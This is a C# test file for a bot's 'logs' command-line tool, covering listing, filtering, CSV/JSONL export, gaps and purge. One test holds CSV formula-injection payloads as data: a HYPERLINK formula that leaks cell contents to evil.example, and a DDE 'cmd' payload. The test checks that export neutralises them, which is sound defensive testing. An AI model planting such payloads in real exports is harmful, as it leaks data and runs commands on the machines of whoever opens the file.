using System.Text.Json;
using KforBot.Log;
using KforBot.Tests.Log;

namespace KforBot.Tests.Cli;

public sealed class LogsCommandTests : IAsyncLifetime
{
    private readonly LogServices _log = new();
    private readonly Dictionary<string, string> _ids = [];

    public async Task InitializeAsync()
    {
        await _log.StartAsync();
        var log = _log.Log;
        _ids["answered"] = log.Record(Sample.Alice, Sample.Answered(), TimeSpan.FromMilliseconds(4.25));
        log.RecordFeedback(_ids["answered"], Feedback.Up);
        _log.Clock.Advance(TimeSpan.FromDays(1));
        _ids["refused"] = log.Record(Sample.Bob, Sample.Refused("What did Albin Kurti say, \"exactly\"?\nTell me.", "Albin Kurti"), TimeSpan.FromMilliseconds(2));
        log.RecordFeedback(_ids["refused"], Feedback.Down);
        _log.Clock.Advance(TimeSpan.FromDays(1));
        _ids["console"] = log.Record(new Asker(LogChannel.Console, "chat", "operator"), Sample.Refused("Weather?", "weather"), TimeSpan.FromMilliseconds(1));
        await _log.StopAsync();
        await _log.Get<InteractionReviews>().SetStatusAsync(_ids["refused"], ModerationStatus.Flagged, "Add an article about Kurti", CancellationToken.None);
    }

    public async Task DisposeAsync() => await _log.DisposeAsync();

    [Fact]
    public async Task ListJson_OneObjectPerLineNewestFirst_WithTheContractsNamesAndTypes()
    {
        var (exitCode, output, error) = await RunAsync("logs", "list", "--json");

        Assert.True(exitCode == 0, error);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal([_ids["console"], _ids["refused"], _ids["answered"]], lines.Select(l => JsonDocument.Parse(l).RootElement.GetProperty("id").GetString()));
        foreach (var line in lines)
        {
            var o = JsonDocument.Parse(line).RootElement;
            Assert.Equal(JsonValueKind.String, o.GetProperty("id").ValueKind);
            Assert.True(DateTimeOffset.TryParse(o.GetProperty("at").GetString(), System.Globalization.CultureInfo.InvariantCulture, out _));
            Assert.Contains(o.GetProperty("channel").GetString(), (string[])["telegram", "console"]);
            Assert.Equal(JsonValueKind.String, o.GetProperty("user").ValueKind);
            Assert.Equal(JsonValueKind.String, o.GetProperty("question").ValueKind);
            Assert.Contains(o.GetProperty("refused").ValueKind, (JsonValueKind[])[JsonValueKind.True, JsonValueKind.False]);
            Assert.Contains(o.GetProperty("reason").ValueKind, (JsonValueKind[])[JsonValueKind.String, JsonValueKind.Null]);
            Assert.All(o.GetProperty("articleIds").EnumerateArray(), id => Assert.Equal(JsonValueKind.String, id.ValueKind));
            Assert.Equal(JsonValueKind.String, o.GetProperty("indexVersion").ValueKind);
            Assert.Equal(JsonValueKind.Number, o.GetProperty("latencyMs").ValueKind);
            Assert.Contains(o.GetProperty("feedback").ValueKind, (JsonValueKind[])[JsonValueKind.String, JsonValueKind.Null]);
            Assert.Contains(o.GetProperty("status").GetString(), (string[])["new", "reviewed", "flagged"]);
            Assert.Contains(o.GetProperty("note").ValueKind, (JsonValueKind[])[JsonValueKind.String, JsonValueKind.Null]);
        }

        var answered = JsonDocument.Parse(lines[2]).RootElement;
        Assert.Equal("2025-03-10T12:00:00.000Z", answered.GetProperty("at").GetString());
        Assert.Equal("telegram", answered.GetProperty("channel").GetString());
        Assert.False(answered.GetProperty("refused").GetBoolean());
        Assert.Equal(["us-soldiers", "rutte-visit"], answered.GetProperty("articleIds").EnumerateArray().Select(a => a.GetString()));
        Assert.Equal("g7", answered.GetProperty("indexVersion").GetString());
        Assert.Equal(4.25, answered.GetProperty("latencyMs").GetDouble());
        Assert.Equal("up", answered.GetProperty("feedback").GetString());
        Assert.Equal("new", answered.GetProperty("status").GetString());
        var refused = JsonDocument.Parse(lines[1]).RootElement;
        Assert.Equal("None of my 5 articles mentions “Albin Kurti”.", refused.GetProperty("reason").GetString());
        Assert.Equal(("flagged", "Add an article about Kurti"), (refused.GetProperty("status").GetString(), refused.GetProperty("note").GetString()));
        Assert.Equal("console", JsonDocument.Parse(lines[0]).RootElement.GetProperty("channel").GetString());
    }

    [Theory]
    [InlineData("console,refused", "--refused")]
    [InlineData("refused", "--feedback", "down")]
    [InlineData("answered", "--feedback", "up")]
    [InlineData("refused", "--status", "flagged")]
    [InlineData("console,answered", "--status", "new")]
    [InlineData("console,refused", "--since", "2025-03-11")]
    [InlineData("console", "--limit", "1")]
    [InlineData("refused", "--refused", "--since", "2025-03-11", "--limit", "1", "--feedback", "down")]
    public async Task ListJson_Filters(string expected, params string[] filters)
    {
        var (exitCode, output, error) = await RunAsync(["logs", "list", "--json", .. filters]);

        Assert.True(exitCode == 0, error);
        Assert.Equal(expected.Split(',').Select(k => _ids[k]), output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("id").GetString()));
    }

    [Fact]
    public async Task List_WithoutJson_IsATableForAPerson()
    {
        var (exitCode, output, _) = await RunAsync("logs", "list");

        Assert.Equal(0, exitCode);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("at (UTC)", lines[0], StringComparison.Ordinal);
        Assert.Contains(_ids["answered"], lines[3], StringComparison.Ordinal);
        Assert.Contains("2025-03-11 12:00", lines[2], StringComparison.Ordinal);
        Assert.Contains("What did Albin Kurti say, \"exactly\"? Tell me.", lines[2], StringComparison.Ordinal);
        Assert.Equal("3 entries.", lines[4]);
    }

    [Fact]
    public async Task ExportCsv_QuotesFieldsWithCommasQuotesAndLineBreaks()
    {
        var (exitCode, output, _) = await RunAsync("logs", "export", "--format", "csv", "--refused");

        Assert.Equal(0, exitCode);
        Assert.StartsWith("id,at,channel,user,question,refused,reason,articleIds,indexVersion,latencyMs,feedback,status,note,chatType,nowAnswerable\n", output, StringComparison.Ordinal);
        Assert.Contains($"{_ids["refused"]},2025-03-11T12:00:00.000Z,telegram,", output, StringComparison.Ordinal);
        Assert.Contains(",\"What did Albin Kurti say, \"\"exactly\"\"?\nTell me.\",true,None of my 5 articles mentions “Albin Kurti”.,,none,2,down,flagged,Add an article about Kurti,group,false\n", output, StringComparison.Ordinal);
        Assert.DoesNotContain(_ids["answered"], output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Details\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1 555 0100", "'+1 555 0100")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public async Task ExportCsv_WritesAFieldThatAFormulaCouldStartAsText(string question, string field)
    {
        await using var log = new LogServices();
        await log.StartAsync();
        var id = log.Log.Record(Sample.Alice, Sample.Refused(question, "leak"), TimeSpan.FromMilliseconds(1));
        await log.StopAsync();
        await log.Get<InteractionReviews>().SetStatusAsync(id, ModerationStatus.Flagged, "=cmd|' /C calc'!A0", CancellationToken.None);

        var (exitCode, output, error) = await CliRunner.RunAsync(string.Empty, ["logs", "export", "--format", "csv", "--log", log.LogPath]);

        Assert.True(exitCode == 0, error);
        Assert.Contains($",telegram,", output, StringComparison.Ordinal);
        Assert.Contains($",{field},true,", output, StringComparison.Ordinal);
        Assert.Contains(",flagged,'=cmd|' /C calc'!A0,", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ExportJsonl_IsTheSameAsListJson()
    {
        var list = await RunAsync("logs", "list", "--json", "--status", "new");
        var export = await RunAsync("logs", "export", "--format", "jsonl", "--status", "new");

        Assert.Equal(0, export.ExitCode);
        Assert.Equal(list.Output, export.Output);
        Assert.Equal(2, export.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
    }

    [Fact]
    public async Task Show_PrintsEveryField_AndAnUnknownIdSaysSo()
    {
        var (exitCode, output, _) = await RunAsync("logs", "show", _ids["answered"]);
        var missing = await RunAsync("logs", "show", "no-such-id");

        Assert.Equal(0, exitCode);
        Assert.Contains("passage:    us-soldiers #3 (score 2.5)", output, StringComparison.Ordinal);
        Assert.Contains("channel:    telegram (private)", output, StringComparison.Ordinal);
        Assert.Contains("latency:    4.25 ms", output, StringComparison.Ordinal);
        Assert.Equal(1, missing.ExitCode);
        Assert.Contains("No entry has the id 'no-such-id'", missing.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Gaps_ListsTheWordsOfRefusals_MostFrequentFirst()
    {
        var (exitCode, output, _) = await RunAsync("logs", "gaps");
        var recent = await RunAsync("logs", "gaps", "--since", "2025-03-12");

        Assert.Equal(0, exitCode);
        Assert.Contains("     1  “Albin Kurti”\n        e.g. What did Albin Kurti say, \"exactly\"? Tell me.\n", output, StringComparison.Ordinal);
        Assert.Contains("“weather”", output, StringComparison.Ordinal);
        Assert.DoesNotContain("Albin Kurti", recent.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Purge_DeletesOlderEntries()
    {
        // The entries were made on 2025-03-10..12; purge counts back from today.
        var days = (int)(DateTimeOffset.UtcNow - LogServices.Start).TotalDays - 1;

        var (exitCode, output, _) = await RunAsync("logs", "purge", "--older-than", days.ToString(System.Globalization.CultureInfo.InvariantCulture));

        Assert.Equal(0, exitCode);
        Assert.Equal($"Deleted 2 entries older than {days} days.\n", output);
        Assert.Equal([_ids["console"]], (await _log.AllAsync()).Select(e => e.Id));
    }

    [Theory]
    [InlineData("--since", "10/03/2025", "--since must be a date as YYYY-MM-DD")]
    [InlineData("--limit", "0", "--limit must be at least 1")]
    [InlineData("--status", "closed", "closed")]
    public async Task BadFilter_PrintsUsageAndExitsWithOne(string option, string value, string message)
    {
        var (exitCode, _, error) = await RunAsync("logs", "list", option, value);

        Assert.Equal(1, exitCode);
        Assert.Contains(message, error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task MissingLogFile_SaysSoAndCreatesNothing()
    {
        var path = _log.Folder.Combine("elsewhere", "log.db");

        var (exitCode, output, error) = await CliRunner.RunAsync(string.Empty, "logs", "list", "--log", path);

        Assert.Equal(1, exitCode);
        Assert.Empty(output);
        Assert.Contains("There is no interaction log at", error, StringComparison.Ordinal);
        Assert.False(Directory.Exists(Path.GetDirectoryName(path)));
    }

    private Task<(int ExitCode, string Output, string Error)> RunAsync(params string[] args) =>
        CliRunner.RunAsync(string.Empty, [.. args, "--log", _log.LogPath]);
}
